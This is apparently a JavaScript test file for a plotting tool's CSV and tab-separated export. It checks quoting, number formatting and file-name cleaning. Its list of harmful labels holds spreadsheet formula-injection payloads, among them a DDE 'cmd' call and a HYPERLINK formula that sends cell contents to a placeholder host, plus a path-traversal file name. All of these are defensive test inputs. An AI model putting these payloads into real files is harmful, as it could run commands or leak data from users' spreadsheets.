import assert from "node:assert/strict";
import { test } from "node:test";

import { asCsv, asTabs, fileName } from "../../../ui/plot/js/numbers/tabular.js";
import { matrixOf } from "./any_matrix.js";

const Z = [Float64Array.of(1 / 3, NaN), Float64Array.of(-2.5, 1e-7)];

test("a spreadsheet gets all digits, an ASCII minus, and nothing for hidden cells", () => {
  assert.equal(asTabs(matrixOf(Z)), "0.3333333333333333\t\n-2.5\t1e-7\n");
});

test("a CSV file has the labels too, in quotes where they need them", () => {
  const labels = { row_labels: ['say "hi"', "a, b"], column_labels: ["x", "y\nz"] };
  assert.equal(
    asCsv(matrixOf(Z, labels)),
    'query \\ key,x,"y\nz"\r\n"say ""hi""",0.3333333333333333,\r\n"a, b",-2.5,1e-7\r\n',
  );
});

test("no label is run as a formula", () => {
  const labels = { row_labels: ["=1+1", "@SUM(A1)"], column_labels: ["+1", "-"] };
  const lines = asCsv(matrixOf(Z, labels)).split("\r\n").map((line) => line.split(",")[0]);
  assert.deepEqual(lines, ["query \\ key", "'=1+1", "'@SUM(A1)", ""]);
  assert.match(asCsv(matrixOf(Z, labels)), /^query \\ key,'\+1,-\r\n/);
});

const HARMFUL = [
  ..."=+-@＝＋－＠".split("").map((sign) => `${sign}cmd|' /C calc'!A0`),
  ...["\t=1+1", "\r=1+1", "\n=1+1", "  @SUM(A1)", "\u200b=1+1", "\ufeff=1+1", "\0=1+1"],
  ...["-2+3", "+1,5+1", "-2.5e", "--1", '=HYPERLINK("https://a.example?"&A1,"x")', "x;=1+1", "x\t=1+1"],
];

test("no label begins a cell as a formula does, whatever separates the cells", () => {
  for (const label of HARMFUL) {
    const labels = { row_labels: [label, "x"], column_labels: [label, "y"] };
    const csv = asCsv(matrixOf(Z, labels));
    const outsideQuotes = csv.replaceAll(/"(?:[^"]|"")*"/g, "");
    for (const cell of outsideQuotes.split(/[,;\t\r\n]/)) {
      assert.match(cell, /^(?:[^=+@\-＝＋－＠]|-?\d|$)/, JSON.stringify(csv));
    }
    for (const [, inside] of csv.matchAll(/"((?:[^"]|"")*)"/g)) {
      assert.doesNotMatch(inside, /^[\s\p{C}]*[=+@\-＝＋－＠]/u, JSON.stringify(csv));
    }
  }
});

test("a label that is a number stays one", () => {
  const numbers = ["-2.5", "12", "-2,5", "-1e-7"];
  const csv = asCsv(matrixOf(Z, { row_labels: numbers.slice(0, 2), column_labels: numbers.slice(2) }));
  assert.equal(csv, 'query \\ key,"-2,5",-1e-7\r\n-2.5,0.3333333333333333,\r\n12,-2.5,1e-7\r\n');
});

test("a file name says the words and has no sign that a system refuses", () => {
  assert.equal(fileName("pizza heads weights, head 1", "csv"), "pizza-heads-weights-head-1.csv");
  assert.equal(fileName('../a<b>:"c"/d\\e|f?g*', "svg"), "a-b-c-d-e-f-g.svg");
  assert.equal(fileName("W_O", "png"), "W_O.png");
  assert.equal(fileName("...", "png"), "picture.png");
});

test("what is no number is written as other programs write it", () => {
  const rows = [Float64Array.of(NaN, NaN, Infinity, -Infinity)];
  assert.equal(asTabs(matrixOf(rows, { masked: true, lost: [1] })), "\tnan\tinf\t-inf\n");
});
